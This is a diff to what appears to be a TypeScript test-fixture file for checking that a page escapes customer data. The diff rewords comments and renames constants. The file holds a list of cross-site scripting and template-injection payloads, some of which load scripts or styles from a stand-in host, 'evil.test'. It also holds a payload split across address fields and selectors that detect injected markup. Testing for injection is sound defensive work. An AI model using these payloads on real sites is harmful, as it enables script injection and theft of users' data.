@@ -1,6 +1,6 @@
-/** What people have put into names and notes to have a reader's browser run it, or load something, or go elsewhere. */
+/** Known injection payloads that make a reader's browser run a script, load a resource or leave the page. */
 export const PAYLOADS: readonly string[] = [
-  // Attributes, and ways out of one.
+  // Event handler attributes, and breaking out of an attribute.
   '<img src=x onerror=hit()>',
   '"><svg onload=hit()>',
   "' autofocus onfocus=hit() x='",
@@ -10,7 +10,7 @@ export const PAYLOADS: readonly string[] = [
   '<video><source onerror=hit()></video>',
   '<body onload=hit()>',
   '<img/src=x\tonerror\n=hit()>',
-  // Elements that run, load or lead away.
+  // Elements that run a script, load a resource or navigate.
   '</title><script>hit()</script>',
   '</script><script>hit()</script>',
   '<script src=//evil.test/x.js></script>',
@@ -25,24 +25,24 @@ export const PAYLOADS: readonly string[] = [
   '<style>*{background:url(//evil.test/x)}</style>',
   '<form action=//evil.test><button>Go</button></form>',
   '<!--><script>hit()</script>-->',
-  // SVG and MathML, whose rules are other than HTML's.
+  // SVG and MathML, which parse differently from HTML.
   '<svg><script>hit()</script></svg>',
   '<svg><animate onbegin=hit() attributeName=x dur=1s>',
   '<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a>',
   '<svg><foreignObject><iframe src=javascript:hit()>',
   '<math><mtext></p><img src=x onerror=hit()>',
-  // Addresses.
+  // URLs.
   'javascript:hit()',
   'JaVaScRiPt://%0ahit()',
   '<a href="java&#x09;script:hit()">x</a>',
   'data:text/html,<script>parent.hit()</script>',
-  // Templates and strings of programs.
+  // Template expressions and string literals.
   "{{constructor.constructor('hit()')()}}",
   '$' + '{hit()}',
   '<%= hit() %>',
   "';hit();//",
   '\\";hit();//',
-  // Other ways to write the same.
+  // Other encodings.
   '&lt;script&gt;hit()&lt;/script&gt;',
   '&#x3c;img src=x onerror=hit()&#x3e;',
   '\\u003cimg src=x onerror=hit()\\u003e',
@@ -50,8 +50,8 @@ export const PAYLOADS: readonly string[] = [
   '<ıframe src=javascript:hit()>',
 ]
 
-/** Markup that comes about only where fields stand side by side. */
-export const BROKEN_OVER_FIELDS = {
+/** A payload split over the fields of a customer, which becomes markup only where they are shown in a row. */
+export const SPLIT_PAYLOAD = {
   short_name: 'Broken <img src=x ',
   company_name: ' onerror=hit() x=',
   addressline1: '> <!--',
@@ -60,8 +60,11 @@ export const BROKEN_OVER_FIELDS = {
   state: '</script>',
 } as const
 
-/** Elements that a page would hold had it read any of them as markup. Its own scripts all have an address. */
-export const STRAYS = [
+/**
+ * Selects the elements that a page contains if it parsed a payload as markup. The page's own scripts have a
+ * `src`.
+ */
+export const PARSED_MARKUP = [
   ...[
     'img[src="x"]',
     'object',
